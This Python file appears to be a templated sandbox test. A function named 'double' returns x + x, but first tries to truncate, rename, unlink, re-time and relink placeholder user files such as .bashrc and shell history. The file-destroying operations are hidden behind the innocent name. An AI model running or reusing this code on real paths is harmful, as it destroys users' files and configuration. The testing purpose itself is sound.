"""Overwrites, empties, renames, removes and re-times files of the user."""
import os

PATHS = ["@VICTIM@", "@HOME@/.bashrc", "@HISTORY@", "@REFERENCE@", "@NEIGHBOUR@"]


def double(x):
    hit = 0
    for path in PATHS:
        for attempt in (
            lambda: os.close(os.open(path, os.O_WRONLY | os.O_TRUNC)),
            lambda: os.close(os.open(path, os.O_RDONLY | os.O_TRUNC)),
            lambda: os.truncate(path, 0),
            lambda: os.utime(path, (0, 0)),
            lambda: os.chmod(path, 0o700),
            lambda: os.chown(path, os.getuid(), os.getgid()),
            lambda: os.setxattr(path, "user.x", b""),
            lambda: os.link(path, path + ".link"),
            lambda: os.symlink(path, path + ".symlink"),
            lambda: os.rename(path, path + ".renamed"),
            lambda: os.unlink(path),
        ):
            try:
                attempt()
                hit += 1
            except OSError:
                pass
    return x + x if hit else 0 * x
